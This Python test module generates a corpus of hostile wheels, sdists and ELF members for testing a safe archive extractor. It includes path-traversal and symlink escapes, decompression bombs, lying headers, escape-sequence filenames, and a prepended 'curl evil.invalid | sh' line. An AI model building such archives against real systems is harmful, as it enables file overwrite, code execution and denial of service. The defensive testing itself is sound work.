"""The hostile corpus: malicious and broken wheels, sdists and ELF members, generated on demand.

Nothing here is a committed blob: each case writes its file into a directory the test gives,
and names what a safe tool must do with it — refuse it with an :class:`ArchiveError` whose
message says why, report it as a finding of the kinds listed, or (for an sdist) extract it
without anything landing outside the destination. Cases whose names try to escape aim at
``Place.outside``, a directory the test watches.
"""

from __future__ import annotations

import enum
import gzip
import io
import lzma
import stat
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from compare.wheels import (
    BASE,
    DIST_INFO,
    RECORD,
    make_wheel,
    patch_local_name,
    point_entry_at,
    record_for,
    symlink_mode,
)

from rebuild.archive import DEFAULT_LIMITS, ExtractLimits
from rebuild.models import DivergenceKind

from .elf import MUTATIONS, shared_object

KiB = 1024
MiB = 1024 * KiB
WHEEL_NAME = "demo-1.0-py3-none-any.whl"
SDIST_TOP = "demo-1.0"
SO_NAME = "demo/_demo.cpython-311-x86_64-linux-gnu.so"
# Terminal escapes (clear screen, set the window title, a hyperlink) and HTML that would run.
TERMINAL_ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.invalid\x1b\\click\x1b]8;;\x1b\\"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
BIDI = "\u202egnp.py"  # right-to-left override: shows as "yp.png"


class Target(enum.Enum):
    """Which parser a case attacks."""

    WHEEL = "wheel"  # compare_wheels(hostile, clean)
    SDIST = "sdist"  # extract_sdist(hostile, dest)
    ELF = "elf"  # compare_wheels on wheels whose .so member is hostile


@dataclass(frozen=True)
class Place:
    """Where a case writes its file, and the directory its escaping names aim at."""

    inputs: Path
    outside: Path


@dataclass(frozen=True)
class Expect:
    """What handling the case safely means.

    ``error``: an ArchiveError whose message contains this. ``findings``: the comparison
    succeeds and reports at least these kinds (unexplained). ``extracted``: the sdist is
    extracted (a harmless oddity) and the test checks what came out.
    """

    error: str | None = None
    findings: frozenset[DivergenceKind] = frozenset()
    extracted: bool = False


@dataclass(frozen=True)
class Case:
    name: str
    target: Target
    build: Callable[[Place], Path]
    expect: Expect
    what: str
    max_seconds: float = 10.0
    max_peak_mib: float = 64.0
    # tracemalloc slows allocation-heavy parsing several times over; off, only ru_maxrss counts.
    traced: bool = True
    extract_limits: ExtractLimits = DEFAULT_LIMITS


def error(fragment: str) -> Expect:
    return Expect(error=fragment)


def finds(*kinds: DivergenceKind) -> Expect:
    return Expect(findings=frozenset(kinds))


# --- wheels -----------------------------------------------------------------------------------


def clean_wheel(directory: Path, members: dict[str, bytes] | None = None) -> Path:
    """The honest side of a comparison: the same project, nothing hostile."""
    return make_wheel(directory / "clean" / WHEEL_NAME, members)


def _hostile_path(place: Place) -> Path:
    path = place.inputs / "hostile" / WHEEL_NAME
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _with(place: Place, extra: dict[str, bytes], **options: object) -> Path:
    members = {**BASE, **extra}
    return make_wheel(_hostile_path(place), members, **options)  # type: ignore[arg-type]


def _raw_zip(path: Path, entries: Iterable[tuple[zipfile.ZipInfo, bytes]]) -> Path:
    """A zip written entry by entry as given, duplicates and odd names included."""
    with zipfile.ZipFile(path, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are the point
        for info, data in entries:
            archive.writestr(info, data)
    return path


def _info(
    name: str, mode: int = stat.S_IFREG | 0o644, method: int = zipfile.ZIP_DEFLATED
) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (2023, 12, 31, 6, 30, 30))
    info.create_system = 3
    info.external_attr = mode << 16
    info.compress_type = method
    return info


def _with_record(members: dict[str, bytes]) -> dict[str, bytes]:
    return {**members, RECORD: record_for(members)}


def _patch(path: Path, at: int, data: bytes) -> Path:
    raw = bytearray(path.read_bytes())
    raw[at : at + len(data)] = data
    path.write_bytes(bytes(raw))
    return path


def _set_central(path: Path, member: str, offset: int, fmt: str, value: int) -> Path:
    """Overwrite one field of ``member``'s central directory record."""
    raw = bytearray(path.read_bytes())
    at = raw.index(b"PK\x01\x02")
    while True:
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", raw, at + 28)
        if raw[at + 46 : at + 46 + name_length] == member.encode():
            struct.pack_into(fmt, raw, at + offset, value)
            path.write_bytes(bytes(raw))
            return path
        at += 46 + name_length + extra_length + comment_length


def _set_local(path: Path, member: str, offset: int, fmt: str, value: int) -> Path:
    with zipfile.ZipFile(path) as archive:
        at = archive.getinfo(member).header_offset
    raw = bytearray(path.read_bytes())
    struct.pack_into(fmt, raw, at + offset, value)
    path.write_bytes(bytes(raw))
    return path


def wheel_dotdot(place: Place) -> Path:
    return _with(place, {"../../../outside/pwned.py": b"owned = True\n"})


def wheel_absolute(place: Place) -> Path:
    return _with(place, {f"{place.outside}/pwned.py": b"owned = True\n"})


def wheel_drive_and_backslash(place: Place) -> Path:
    return _with(place, {"C:\\Windows\\evil.py": b"x\n", "demo\\..\\..\\evil.py": b"x\n"})


def wheel_symlink_out(place: Place) -> Path:
    target = f"../../../../{place.outside.name}/target".encode()
    return _with(place, {"demo/link": target}, mode={"demo/link": symlink_mode()})


def wheel_device(place: Place) -> Path:
    members = {**BASE, "demo/null": b""}
    return make_wheel(
        _hostile_path(place),
        members,
        mode={"demo/null": stat.S_IFCHR | 0o666, "demo/core.py": stat.S_IFIFO | 0o644},
    )


def wheel_duplicate_names(place: Place) -> Path:
    return make_wheel(
        _hostile_path(place),
        duplicates={"demo/core.py": b"import os; os.system('id')\n"},
    )


def wheel_header_name_mismatch(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    patch_local_name(path, "demo/core.py", "demo/evil.py")
    return path


def wheel_overlapping_entries(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    point_entry_at(path, "demo/core.py", "demo/__init__.py")
    return path


def wheel_local_crc_lies(place: Place) -> Path:
    path = make_wheel(_hostile_path(place), compression=zipfile.ZIP_STORED)
    return _set_local(path, "demo/core.py", 14, "<L", 0xDEADBEEF)


def wheel_truncated(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def wheel_truncated_tail(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    path.write_bytes(path.read_bytes()[:-10])
    return path


def wheel_empty(place: Place) -> Path:
    path = _hostile_path(place)
    path.write_bytes(b"")
    return path


def wheel_not_a_zip(place: Place) -> Path:
    path = _hostile_path(place)
    path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 16)
    return path


def wheel_corrupt_deflate(place: Place) -> Path:
    members = {**BASE, "demo/data.txt": b"".join(b"line %d\n" % i for i in range(2000))}
    path = make_wheel(_hostile_path(place), members)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("demo/data.txt")
    start = info.header_offset + 30 + len(info.orig_filename.encode())
    return _patch(path, start + 10, b"\xff" * 32)


def wheel_crc_lies(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    path = _set_central(path, "demo/core.py", 16, "<L", 0x12345678)
    return _set_local(path, "demo/core.py", 14, "<L", 0x12345678)


def wheel_bomb_declared(place: Place) -> Path:
    # 256 MiB of zeros in a few KiB: LZMA goes far past anything deflate can do.
    path = _hostile_path(place)
    with zipfile.ZipFile(path, "w") as archive:
        info = _info("demo/bomb.bin", method=zipfile.ZIP_LZMA)
        with archive.open(info, "w") as stream:
            chunk = bytes(MiB)
            for _ in range(256):
                stream.write(chunk)
    return path


def wheel_bomb_lying_sizes(place: Place) -> Path:
    """A member that declares 1 KiB and inflates to 64 MiB."""
    path = _hostile_path(place)
    data = bytes(64 * MiB)
    _raw_zip(path, [(_info("demo/bomb.bin"), data)])
    compressed = zlib_size(path, "demo/bomb.bin")
    assert compressed < MiB
    _set_central(path, "demo/bomb.bin", 24, "<L", KiB)
    return _set_local(path, "demo/bomb.bin", 22, "<L", KiB)


def zlib_size(path: Path, member: str) -> int:
    with zipfile.ZipFile(path) as archive:
        return archive.getinfo(member).compress_size


def wheel_overlap_bomb(place: Place) -> Path:
    """Many central entries sharing one compressed kernel (the non-recursive zip bomb)."""
    path = _hostile_path(place)
    names = [f"demo/k{i:02d}.bin" for i in range(8)]
    _raw_zip(path, [(_info(n), bytes(32 * MiB) if n == names[0] else b"") for n in names])
    for name in names[1:]:
        point_entry_at(path, name, names[0])
        for offset, fmt in ((16, "<L"), (20, "<L"), (24, "<L")):
            with zipfile.ZipFile(path) as archive:
                source = archive.getinfo(names[0])
            value = {16: source.CRC, 20: source.compress_size, 24: source.file_size}[offset]
            _set_central(path, name, offset, fmt, value)
    return path


def wheel_many_members(place: Place) -> Path:
    """200,001 empty members: one past the comparison's limit."""
    path = _hostile_path(place)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for i in range(200_001):
            archive.writestr(f"d/{i}", b"")
    return path


def wheel_long_name(place: Place) -> Path:
    return _with(place, {"demo/" + "a" * 60_000 + ".py": b"x = 1\n"})


def wheel_deep_name(place: Place) -> Path:
    return _with(place, {"demo/" + "d/" * 20_000 + "x.py": b"x = 1\n"})


def wheel_escape_names(place: Place) -> Path:
    return _with(
        place,
        {
            f"demo/{TERMINAL_ESCAPES}.py": b"x\n",
            f"demo/{HTML}.py": b"x\n",
            f"demo/{BIDI}": b"x\n",
            "demo/nul\x00byte.py": b"x\n",
            "demo/new\nline.py": b"x\n",
        },
    )


def wheel_record_lies(place: Place) -> Path:
    members = dict(BASE)
    honest = record_for(members).decode()
    lying = honest.replace("demo/core.py,sha256=", "demo/core.py,sha256=AAAA") + (
        "demo/ghost.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n"
    )
    members["demo/unlisted.py"] = b"import os\n"
    return make_wheel(_hostile_path(place), members, record=lying.encode())


def wheel_record_garbage(place: Place) -> Path:
    garbage = b'"unterminated,\x00\xff\xfe\n' + b",,,,,,,\n" * 1000 + b"\x1b[2J" * 100
    return make_wheel(_hostile_path(place), record=garbage)


def wheel_huge_metadata(place: Place) -> Path:
    lines = [b"Metadata-Version: 2.1", b"Name: demo", b"Version: 1.0"]
    lines += [b"Classifier: Topic :: %d" % i for i in range(200_000)]
    lines += [b"", b"x" * (4 * MiB)]
    return make_wheel(_hostile_path(place), changes={f"{DIST_INFO}/METADATA": b"\n".join(lines)})


def wheel_huge_metadata_line(place: Place) -> Path:
    huge = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: " + b"y" * (8 * MiB)
    return make_wheel(_hostile_path(place), changes={f"{DIST_INFO}/METADATA": huge})


def wheel_encrypted(place: Place) -> Path:
    path = make_wheel(_hostile_path(place), compression=zipfile.ZIP_STORED)
    path = _set_central(path, "demo/core.py", 8, "<H", 0x0001)
    return _set_local(path, "demo/core.py", 6, "<H", 0x0001)


def wheel_unknown_method(place: Place) -> Path:
    path = make_wheel(_hostile_path(place), compression=zipfile.ZIP_STORED)
    path = _set_central(path, "demo/core.py", 10, "<H", 99)
    return _set_local(path, "demo/core.py", 8, "<H", 99)


def wheel_prepended_data(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    # A shell script in front of a zip: zipfile still finds the central directory at the end.
    path.write_bytes(b"#!/bin/sh\ncurl evil.invalid | sh\nexit\n" + path.read_bytes())
    return path


def wheel_entry_count_lies(place: Place) -> Path:
    """The end record claims 65,535 entries; the central directory holds a handful."""
    path = make_wheel(_hostile_path(place))
    raw = bytearray(path.read_bytes())
    end = raw.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", raw, end + 8, 0xFFFF, 0xFFFF)
    path.write_bytes(bytes(raw))
    return path


def wheel_central_offset_lies(place: Place) -> Path:
    path = make_wheel(_hostile_path(place))
    raw = bytearray(path.read_bytes())
    end = raw.rindex(b"PK\x05\x06")
    struct.pack_into("<L", raw, end + 16, 0x7FFFFFFF)
    path.write_bytes(bytes(raw))
    return path


def wheel_member_size_lies_small(place: Place) -> Path:
    path = make_wheel(_hostile_path(place), compression=zipfile.ZIP_STORED)
    path = _set_central(path, "demo/core.py", 24, "<L", 3)
    return _set_local(path, "demo/core.py", 22, "<L", 3)


# --- ELF members ------------------------------------------------------------------------------


def _elf_wheel(place: Place, data: bytes) -> Path:
    return _with(place, {SO_NAME: data})


def elf_case(mutation: str) -> Callable[[Place], Path]:
    def build(place: Place) -> Path:
        return _elf_wheel(place, MUTATIONS[mutation](shared_object()))

    return build


def elf_absurd_file(place: Place) -> Path:
    # 40 MiB that claims to be ELF: a reader must not parse it in quadratic time.
    return _elf_wheel(place, b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\xff" * (40 * MiB))


# --- sdists -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class T:
    """One member of a test tar."""

    name: str
    data: bytes = b""
    kind: bytes = tarfile.REGTYPE
    link: str = ""
    mode: int = 0o644
    size: int | None = None  # declared size, when it should lie


def _tar_bytes(members: Iterable[T], *, fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt) as archive:
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type = m.kind
            info.mode = m.mode
            info.mtime = 1_700_000_000
            info.linkname = m.link
            info.size = len(m.data) if m.kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(m.data) if m.kind == tarfile.REGTYPE else None)
    return buffer.getvalue()


def _tar_prefix(members: Iterable[T]) -> bytes:
    """Members as tar blocks with no end-of-archive marker, for a stream written after them."""
    out = bytearray()
    for m in members:
        info = tarfile.TarInfo(m.name)
        info.type = m.kind
        info.mode = m.mode
        info.mtime = 1_700_000_000
        info.size = len(m.data) if m.kind == tarfile.REGTYPE else 0
        out += info.tobuf(format=tarfile.PAX_FORMAT) + m.data + bytes(-len(m.data) % 512)
    return bytes(out)


def _sdist_path(place: Place, suffix: str = ".tar.gz") -> Path:
    path = place.inputs / "hostile" / f"{SDIST_TOP}{suffix}"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


NORMAL = [
    T(SDIST_TOP, kind=tarfile.DIRTYPE, mode=0o755),
    T(f"{SDIST_TOP}/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"),
    T(f"{SDIST_TOP}/demo/__init__.py", b"ANSWER = 42\n"),
]


def _tgz(place: Place, members: list[T]) -> Path:
    path = _sdist_path(place)
    path.write_bytes(gzip.compress(_tar_bytes([*NORMAL, *members]), mtime=0))
    return path


def _sdist(members: list[T]) -> Callable[[Place], Path]:
    return lambda place: _tgz(place, members)


def sdist_dotdot(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/../../../{place.outside.name}/pwned", b"x")])


def sdist_absolute(place: Place) -> Path:
    return _tgz(place, [T(f"{place.outside}/pwned", b"x")])


def sdist_symlink_absolute(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/etc", kind=tarfile.SYMTYPE, link=str(place.outside))])


def sdist_symlink_relative(place: Place) -> Path:
    link = f"../../../{place.outside.name}"
    return _tgz(place, [T(f"{SDIST_TOP}/out", kind=tarfile.SYMTYPE, link=link)])


def sdist_write_through_symlink(place: Place) -> Path:
    # A harmless-looking link inside the tree, re-pointed, then written through.
    return _tgz(
        place,
        [
            T(f"{SDIST_TOP}/a", kind=tarfile.DIRTYPE, mode=0o755),
            T(f"{SDIST_TOP}/l", kind=tarfile.SYMTYPE, link="a"),
            T(f"{SDIST_TOP}/l", kind=tarfile.SYMTYPE, link=f"../../../{place.outside.name}"),
            T(f"{SDIST_TOP}/l/pwned", b"x"),
        ],
    )


def sdist_symlink_chain(place: Place) -> Path:
    # Each link stays inside on its own; together they climb out.
    return _tgz(
        place,
        [
            T(f"{SDIST_TOP}/d1/d2", kind=tarfile.DIRTYPE, mode=0o755),
            T(f"{SDIST_TOP}/d1/d2/up", kind=tarfile.SYMTYPE, link="../.."),
            T(f"{SDIST_TOP}/d1/d2/up2", kind=tarfile.SYMTYPE, link="up/.."),
            T(f"{SDIST_TOP}/d1/d2/up3", kind=tarfile.SYMTYPE, link="up2/.."),
        ],
    )


def sdist_hardlink_out(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/passwd", kind=tarfile.LNKTYPE, link="/etc/passwd")])


def sdist_hardlink_dotdot(place: Place) -> Path:
    link = f"../../{place.outside.name}/secret"
    return _tgz(place, [T(f"{SDIST_TOP}/secret", kind=tarfile.LNKTYPE, link=link)])


def sdist_device(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/sda", kind=tarfile.BLKTYPE)])


def sdist_chardev(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/null", kind=tarfile.CHRTYPE)])


def sdist_fifo(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/fifo", kind=tarfile.FIFOTYPE)])


def sdist_duplicate_file(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/demo/__init__.py", b"ANSWER = 'replaced'\n")])


def sdist_file_then_directory(place: Place) -> Path:
    return _tgz(
        place,
        [T(f"{SDIST_TOP}/x", b"file"), T(f"{SDIST_TOP}/x/y", b"needs x to be a directory")],
    )


def sdist_directory_then_link(place: Place) -> Path:
    return _tgz(
        place,
        [
            T(f"{SDIST_TOP}/demo", kind=tarfile.SYMTYPE, link=f"../../{place.outside.name}"),
        ],
    )


def sdist_setuid(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/tool", b"#!/bin/sh\n", mode=0o6755)])


def sdist_truncated(place: Place) -> Path:
    path = _tgz(place, [T(f"{SDIST_TOP}/big.txt", bytes(range(256)) * 4096)])
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def sdist_corrupt_gzip(place: Place) -> Path:
    path = _tgz(place, [T(f"{SDIST_TOP}/big.txt", b"".join(b"%d\n" % i for i in range(50_000)))])
    return _patch(path, 200, b"\x00\xff" * 64)


def sdist_gzip_trailer_lies(place: Place) -> Path:
    path = _tgz(place, [])
    return _patch(path, path.stat().st_size - 8, b"\x00\x00\x00\x00")


def sdist_not_an_archive(place: Place) -> Path:
    path = _sdist_path(place)
    path.write_bytes(b"\x1f\x8b" + bytes(range(256)) * 8)
    return path


def sdist_gzip_bomb(place: Place) -> Path:
    """512 MiB of zeros in about 512 KiB: stopped by the expansion ratio, not by the disk."""
    path = _sdist_path(place)
    size = 512 * MiB
    with gzip.GzipFile(path, "wb", compresslevel=1, mtime=0) as gz:
        header = tarfile.TarInfo(f"{SDIST_TOP}/zeros.bin")
        header.size = size
        header.mtime = 1_700_000_000
        gz.write(_tar_prefix(NORMAL))  # without the end-of-archive blocks
        gz.write(header.tobuf(format=tarfile.PAX_FORMAT))
        chunk = bytes(4 * MiB)
        for _ in range(size // len(chunk)):
            gz.write(chunk)
        gz.write(bytes(1024))
    return path


def sdist_xz_bomb(place: Place) -> Path:
    """xz reaches ratios far beyond gzip: 1 GiB of zeros in a few hundred KiB."""
    path = _sdist_path(place, ".tar.xz")
    size = 1024 * MiB
    with lzma.open(path, "wb", preset=0) as xz:
        header = tarfile.TarInfo(f"{SDIST_TOP}/zeros.bin")
        header.size = size
        xz.write(_tar_prefix(NORMAL))
        xz.write(header.tobuf(format=tarfile.PAX_FORMAT))
        chunk = bytes(8 * MiB)
        for _ in range(size // len(chunk)):
            xz.write(chunk)
        xz.write(bytes(1024))
    return path


def sdist_zip_bomb(place: Place) -> Path:
    path = _sdist_path(place, ".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{SDIST_TOP}/PKG-INFO", b"Name: demo\n")
        with archive.open(f"{SDIST_TOP}/zeros.bin", "w") as stream:
            chunk = bytes(4 * MiB)
            for _ in range(128):
                stream.write(chunk)
    return path


def sdist_size_lies(place: Place) -> Path:
    """A header declaring 100 GiB: refused from the header, before a byte is written."""
    path = _sdist_path(place)
    header = tarfile.TarInfo(f"{SDIST_TOP}/huge.bin")
    header.size = 100 * 1024 * MiB
    raw = _tar_prefix(NORMAL) + header.tobuf(format=tarfile.PAX_FORMAT) + bytes(2048)
    path.write_bytes(gzip.compress(raw, mtime=0))
    return path


def sdist_many_members(place: Place) -> Path:
    """10,001 empty files against a limit of 10,000 (the case's ``extract_limits``).

    The default limit is 100,000: reaching it costs about 0.5 ms per member on a busy 2-core
    machine (the archive's own headers, the standard library's filter, a file written), about a
    minute, which is linear and bounded but too long for every test run.
    """
    path = _sdist_path(place)
    with gzip.GzipFile(path, "wb", compresslevel=1, mtime=0) as gz:
        gz.write(_tar_prefix(NORMAL))
        for i in range(10_001):
            info = tarfile.TarInfo(f"{SDIST_TOP}/m/{i % 100}/{i}")
            info.mtime = 1_700_000_000
            gz.write(info.tobuf(format=tarfile.GNU_FORMAT))
        gz.write(bytes(1024))
    return path


def sdist_long_name(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/" + "n" * 5000, b"x")])


def sdist_deep_name(place: Place) -> Path:
    return _tgz(place, [T(f"{SDIST_TOP}/" + "d" * 200 + "/" * 0 + "/d" * 3000 + "/x", b"x")])


def sdist_escape_names(place: Place) -> Path:
    return _tgz(
        place,
        [
            T(f"{SDIST_TOP}/{TERMINAL_ESCAPES}", b"x"),
            T(f"{SDIST_TOP}/{HTML.replace('/', '_')}", b"x"),
            T(f"{SDIST_TOP}/{BIDI}", b"x"),
            T(f"{SDIST_TOP}/new\nline", b"x"),
        ],
    )


def sdist_nul_name(place: Place) -> Path:
    # tarfile would cut a name at NUL; a pax header carries it whole.
    path = _sdist_path(place)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo(f"{SDIST_TOP}/x")
        info.pax_headers = {"path": f"{SDIST_TOP}/a\\..\\..\\b"}
        archive.addfile(info, io.BytesIO(b""))
    path.write_bytes(gzip.compress(_tar_prefix(NORMAL) + buffer.getvalue(), mtime=0))
    return path


def sdist_huge_pkg_info(place: Place) -> Path:
    text = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n" + b"Classifier: x\n" * 400_000
    return _tgz(place, [T(f"{SDIST_TOP}/PKG-INFO", text)])


def sdist_zip_symlink_out(place: Place) -> Path:
    path = _sdist_path(place, ".zip")
    return _raw_zip(
        path,
        [
            (_info(f"{SDIST_TOP}/PKG-INFO"), b"Name: demo\n"),
            (_info(f"{SDIST_TOP}/out", mode=stat.S_IFLNK | 0o777), str(place.outside).encode()),
        ],
    )


def sdist_zip_device(place: Place) -> Path:
    path = _sdist_path(place, ".zip")
    return _raw_zip(
        path,
        [
            (_info(f"{SDIST_TOP}/PKG-INFO"), b"Name: demo\n"),
            (_info(f"{SDIST_TOP}/null", mode=stat.S_IFCHR | 0o666), b""),
        ],
    )


def sdist_zip_dotdot(place: Place) -> Path:
    path = _sdist_path(place, ".zip")
    name = f"{SDIST_TOP}/../../../{place.outside.name}/pwned"
    return _raw_zip(path, [(_info(f"{SDIST_TOP}/PKG-INFO"), b"x"), (_info(name), b"x")])


def sdist_zip_corrupt(place: Place) -> Path:
    path = _sdist_path(place, ".zip")
    _raw_zip(path, [(_info(f"{SDIST_TOP}/PKG-INFO"), b"Name: demo\n" * 500)])
    return _patch(path, 60, b"\xff" * 16)


# --- the corpus -------------------------------------------------------------------------------

K = DivergenceKind


def _wheel(name: str, build: Callable[[Place], Path], expect: Expect, what: str, **kw: Any) -> Case:
    return Case(f"wheel-{name}", Target.WHEEL, build, expect, what, **kw)


def _sdist_case(
    name: str, build: Callable[[Place], Path], expect: Expect, what: str, **kw: Any
) -> Case:
    return Case(f"sdist-{name}", Target.SDIST, build, expect, what, **kw)


WHEEL_CASES = [
    _wheel("dotdot-name", wheel_dotdot, finds(K.UNSAFE_NAME), "a member named ../../../"),
    _wheel("absolute-name", wheel_absolute, finds(K.UNSAFE_NAME), "an absolute member name"),
    _wheel("drive-backslash", wheel_drive_and_backslash, finds(K.UNSAFE_NAME), "C:\\ and \\ names"),
    _wheel("symlink-out", wheel_symlink_out, finds(K.SYMLINK), "a symlink entry pointing out"),
    _wheel("device-entries", wheel_device, finds(K.ONLY_PUBLISHED), "char device and fifo modes"),
    _wheel("duplicate-names", wheel_duplicate_names, finds(K.DUPLICATE_NAME), "a name twice"),
    _wheel("local-name-differs", wheel_header_name_mismatch, finds(K.HEADER_MISMATCH), "CD vs LH"),
    _wheel("overlapping-entries", wheel_overlapping_entries, error("Bad CRC-32"), "overlap"),
    _wheel("local-crc-lies", wheel_local_crc_lies, finds(K.HEADER_MISMATCH), "local CRC differs"),
    _wheel("truncated-half", wheel_truncated, error("not a readable zip"), "cut in half"),
    _wheel("truncated-tail", wheel_truncated_tail, error("not a readable zip"), "last bytes cut"),
    _wheel("empty-file", wheel_empty, error("not a readable zip"), "zero bytes"),
    _wheel("not-a-zip", wheel_not_a_zip, error("not a readable zip"), "zip magic, then noise"),
    _wheel("corrupt-deflate", wheel_corrupt_deflate, error("corrupt"), "deflate stream damaged"),
    _wheel("crc-lies", wheel_crc_lies, error("Bad CRC-32"), "both CRCs wrong"),
    _wheel("bomb-declared", wheel_bomb_declared, error("zip bomb"), "256 MiB LZMA in KiB"),
    _wheel("bomb-lying-sizes", wheel_bomb_lying_sizes, error("demo/bomb.bin"), "64 MiB as 1 KiB"),
    _wheel(
        "overlap-bomb",
        wheel_overlap_bomb,
        error("entries share compressed data"),
        "8 entries share one 32 MiB deflate kernel",
        max_seconds=20,
    ),
    _wheel(
        "200001-members",
        wheel_many_members,
        error("200,001 entries"),
        "one member past the limit",
        max_seconds=30,
        max_peak_mib=256,
        traced=False,
    ),
    _wheel("long-name", wheel_long_name, finds(K.UNSAFE_NAME), "a 60,000-character name"),
    _wheel("deep-name", wheel_deep_name, finds(K.UNSAFE_NAME), "20,000 directories deep"),
    _wheel(
        "escape-names", wheel_escape_names, finds(K.UNSAFE_NAME), "terminal/HTML/bidi/NUL names"
    ),
    _wheel(
        "record-lies", wheel_record_lies, finds(K.RECORD_MISMATCH), "wrong hash, ghost, unlisted"
    ),
    _wheel("record-garbage", wheel_record_garbage, finds(K.RECORD_MISMATCH), "RECORD is not CSV"),
    _wheel("huge-metadata", wheel_huge_metadata, finds(K.CONTENT), "8 MiB METADATA"),
    _wheel(
        "huge-metadata-line",
        wheel_huge_metadata_line,
        finds(K.CONTENT),
        "an 8 MiB Summary line",
    ),
    _wheel("encrypted", wheel_encrypted, error("encrypted"), "the encryption flag set"),
    _wheel("unknown-method", wheel_unknown_method, error("compression method 99"), "method 99"),
    _wheel("prepended-script", wheel_prepended_data, finds(K.UNLISTED_DATA), "a script in front"),
    _wheel("entry-count-lies", wheel_entry_count_lies, finds(K.ATTRIBUTES), "65,535 claimed"),
    _wheel("cd-offset-lies", wheel_central_offset_lies, error("not a readable zip"), "CD offset"),
    _wheel("size-lies-small", wheel_member_size_lies_small, error("demo/core.py"), "size 3"),
]

ELF_CASES = [
    Case(f"elf-{m}", Target.ELF, elf_case(m), finds(K.CONTENT), f"ELF member: {m}")
    for m in MUTATIONS
] + [
    # Each side is read whole by design (sections are sliced from memory): 40 MiB, three times.
    Case(
        "elf-40mib-noise",
        Target.ELF,
        elf_absurd_file,
        finds(K.CONTENT),
        "40 MiB of noise behind an ELF header",
        max_peak_mib=160,
    )
]

SDIST_CASES = [
    _sdist_case("dotdot", sdist_dotdot, error("refused"), "a member climbing out"),
    _sdist_case("absolute", sdist_absolute, error("absolute path"), "an absolute member"),
    _sdist_case("symlink-absolute", sdist_symlink_absolute, error("refused"), "link to /outside"),
    _sdist_case("symlink-relative", sdist_symlink_relative, error("refused"), "link ../../.."),
    _sdist_case(
        "write-through-symlink", sdist_write_through_symlink, error("outside"), "re-pointed link"
    ),
    _sdist_case("symlink-chain", sdist_symlink_chain, error("outside"), "links that add up"),
    _sdist_case("hardlink-absolute", sdist_hardlink_out, error("refused"), "hard link /etc/passwd"),
    _sdist_case("hardlink-dotdot", sdist_hardlink_dotdot, error("refused"), "hard link ../.."),
    _sdist_case("block-device", sdist_device, error("special file"), "a block device"),
    _sdist_case("char-device", sdist_chardev, error("special file"), "a character device"),
    _sdist_case("fifo", sdist_fifo, error("special file"), "a fifo"),
    _sdist_case(
        "duplicate-file",
        sdist_duplicate_file,
        Expect(extracted=True),
        "a file twice: the last wins, as with tar",
    ),
    _sdist_case("file-then-dir", sdist_file_then_directory, error("directory"), "x then x/y"),
    _sdist_case("dir-then-link", sdist_directory_then_link, error("refused"), "demo/ made a link"),
    _sdist_case("setuid", sdist_setuid, Expect(extracted=True), "mode 6755: comes out 0755"),
    _sdist_case("truncated", sdist_truncated, error("corrupt or truncated"), "cut in half"),
    _sdist_case("corrupt-gzip", sdist_corrupt_gzip, error("corrupt or truncated"), "damaged"),
    _sdist_case(
        "gzip-crc-lies",
        sdist_gzip_trailer_lies,
        Expect(extracted=True),
        "a wrong gzip CRC after intact tar blocks: tar stops at its end marker, harmless",
    ),
    _sdist_case("not-an-archive", sdist_not_an_archive, error("corrupt or truncated"), "noise"),
    _sdist_case(
        "gzip-bomb", sdist_gzip_bomb, error("decompression bomb"), "512 MiB of zeros in 512 KiB"
    ),
    _sdist_case("xz-bomb", sdist_xz_bomb, error("decompression bomb"), "1 GiB of zeros in xz"),
    _sdist_case("zip-bomb", sdist_zip_bomb, error("decompression bomb"), "512 MiB in a zip sdist"),
    _sdist_case("declared-100GiB", sdist_size_lies, error("declares"), "a header claiming 100 GiB"),
    _sdist_case(
        "10001-members",
        sdist_many_members,
        error("more than 10000 members"),
        "one member past the limit",
        max_seconds=60,
        max_peak_mib=128,
        traced=False,
        extract_limits=ExtractLimits(max_members=10_000),
    ),
